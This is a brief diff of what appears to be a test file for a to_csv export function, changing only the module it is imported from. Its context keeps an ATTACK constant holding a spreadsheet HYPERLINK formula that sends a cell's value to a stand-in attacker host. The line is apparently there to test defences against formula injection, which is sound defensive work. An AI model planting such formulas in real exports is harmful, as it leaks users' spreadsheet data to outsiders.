@@ -5,7 +5,7 @@ import io
 import pandas as pd
 import pytest
 
-from skerry.analysis.spreadsheet import to_csv
+from skerry.analysis.frame import to_csv
 
 ATTACK = '=HYPERLINK("http://evil.example?"&A1)'
 
